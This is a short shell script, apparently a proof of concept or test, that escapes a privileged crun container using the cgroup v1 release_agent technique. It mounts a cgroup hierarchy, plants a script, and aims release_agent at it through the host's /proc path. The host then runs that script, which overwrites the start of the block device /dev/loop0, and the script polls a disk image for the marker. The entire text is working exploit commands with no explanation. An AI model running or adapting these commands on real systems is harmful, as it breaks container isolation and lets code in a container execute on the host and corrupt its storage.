crun exec --tty privileged /bin/sh
mkdir /tmp/v1; mount -t cgroup -o none,name=v1 v1 /tmp/v1
mkdir /tmp/v1/empty; echo 1 > /tmp/v1/empty/notify_on_release
printf '#!/bin/sh\necho owned > /dev/loop0\n' > /tmp/x; chmod 755 /tmp/x
exit
host=$(pgrep -x httpd)
crun exec privileged sh -c "echo /proc/$host/root/tmp/x > /tmp/v1/release_agent; sh -c 'echo \$\$ > /tmp/v1/empty/cgroup.procs'"
until head -n 1 /srv/disk.img | grep -a owned; do sleep 0.3; done
